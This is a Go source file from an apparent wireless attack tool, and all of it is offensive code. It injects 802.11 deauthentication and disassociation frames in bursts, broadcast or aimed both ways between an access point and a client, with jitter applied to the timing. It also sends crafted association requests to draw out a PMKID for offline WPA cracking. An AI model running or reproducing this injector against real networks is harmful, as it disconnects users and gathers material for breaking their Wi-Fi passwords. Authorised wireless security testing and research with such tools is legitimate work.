package attack

import (
	"math/rand"
	"time"

	"github.com/lcalzada-xor/snuffle/internal/core/domain"
	"github.com/lcalzada-xor/snuffle/internal/telemetry"
)

// 802.11 management subtypes used by the injector.
const (
	subtypeAssocReq = 0x00
	subtypeDisassoc = 0xA0
	subtypeDeauth   = 0xC0
)

// reasonUnspecified is the 802.11 reason code carried in detach frames.
const reasonUnspecified = 0x0007

var broadcastAddr = domain.BSSID{0xFF, 0xFF, 0xFF, 0xFF, 0xFF, 0xFF}

// buildManagementFrame assembles a 26-byte deauth or disassoc frame on a
// stack buffer: header, destination, source, BSSID, sequence, reason.
func buildManagementFrame(subtype byte, dst, src, bssid domain.BSSID, seq uint16, reason uint16) [26]byte {
	var f [26]byte
	f[0] = subtype
	// f[1] flags zero, f[2:4] duration zero
	copy(f[4:10], dst[:])
	copy(f[10:16], src[:])
	copy(f[16:22], bssid[:])
	f[22] = byte(seq << 4)
	f[23] = byte(seq >> 4)
	f[24] = byte(reason)
	f[25] = byte(reason >> 8)
	return f
}

// buildAssocRequest assembles an association request whose SSID element
// matches the target, used to solicit an M1 carrying the PMKID KDE.
func buildAssocRequest(own, bssid domain.BSSID, ssid string, seq uint16) []byte {
	if len(ssid) > 32 {
		ssid = ssid[:32]
	}
	frame := make([]byte, 28, 28+2+len(ssid)+10)
	frame[0] = subtypeAssocReq
	copy(frame[4:10], bssid[:])
	copy(frame[10:16], own[:])
	copy(frame[16:22], bssid[:])
	frame[22] = byte(seq << 4)
	frame[23] = byte(seq >> 4)
	frame[24] = 0x31 // capability: ESS + privacy + short preamble
	frame[25] = 0x04
	frame[26] = 0x0A // listen interval
	frame[27] = 0x00

	frame = append(frame, 0x00, byte(len(ssid)))
	frame = append(frame, ssid...)
	// Supported rates: 1, 2, 5.5, 11 basic
	frame = append(frame, 0x01, 0x04, 0x82, 0x84, 0x8B, 0x96)
	return frame
}

// sendDeauthBurst transmits n detach rounds. With a client known the burst
// alternates AP->client and client->AP for bidirectional detach and appends
// a disassociation; otherwise it broadcasts. Frames are jittered uniformly
// in [1, jitterMax].
func (e *Engine) sendDeauthBurst(target, client domain.BSSID, broadcast bool) {
	n := e.pol.DeauthBurstFrames
	for i := 0; i < n; i++ {
		var frame [26]byte
		if broadcast {
			frame = buildManagementFrame(subtypeDeauth, broadcastAddr, target, target, e.nextSeq(), reasonUnspecified)
		} else if i%2 == 0 {
			// AP -> client
			frame = buildManagementFrame(subtypeDeauth, client, target, target, e.nextSeq(), reasonUnspecified)
		} else {
			// client -> AP
			frame = buildManagementFrame(subtypeDeauth, target, client, target, e.nextSeq(), reasonUnspecified)
		}
		if err := e.radio.Transmit(frame[:]); err != nil {
			telemetry.InjectionsTotal.WithLabelValues("deauth_failed").Inc()
		} else {
			telemetry.InjectionsTotal.WithLabelValues("deauth").Inc()
		}
		e.sleepJitter()
	}

	dst := client
	if broadcast {
		dst = broadcastAddr
	}
	disassoc := buildManagementFrame(subtypeDisassoc, dst, target, target, e.nextSeq(), reasonUnspecified)
	if err := e.radio.Transmit(disassoc[:]); err != nil {
		telemetry.InjectionsTotal.WithLabelValues("disassoc_failed").Inc()
	} else {
		telemetry.InjectionsTotal.WithLabelValues("disassoc").Inc()
	}
}

// sendAssocRequest emits one association request toward the target.
func (e *Engine) sendAssocRequest(target domain.BSSID, ssid string) {
	frame := buildAssocRequest(e.radio.MAC(), target, ssid, e.nextSeq())
	if err := e.radio.Transmit(frame); err != nil {
		telemetry.InjectionsTotal.WithLabelValues("assoc_failed").Inc()
		return
	}
	telemetry.InjectionsTotal.WithLabelValues("assoc").Inc()
}

func (e *Engine) nextSeq() uint16 {
	e.seq = (e.seq + 1) & 0x0FFF
	return e.seq
}

func (e *Engine) sleepJitter() {
	if e.pol.DeauthJitterMax <= 0 {
		return
	}
	jitter := time.Duration(1+e.rng.Intn(int(e.pol.DeauthJitterMax/time.Millisecond))) * time.Millisecond
	e.sleep(jitter)
}

// newRNG seeds a local source the way the channel hopper does.
func newRNG() *rand.Rand {
	return rand.New(rand.NewSource(time.Now().UnixNano()))
}
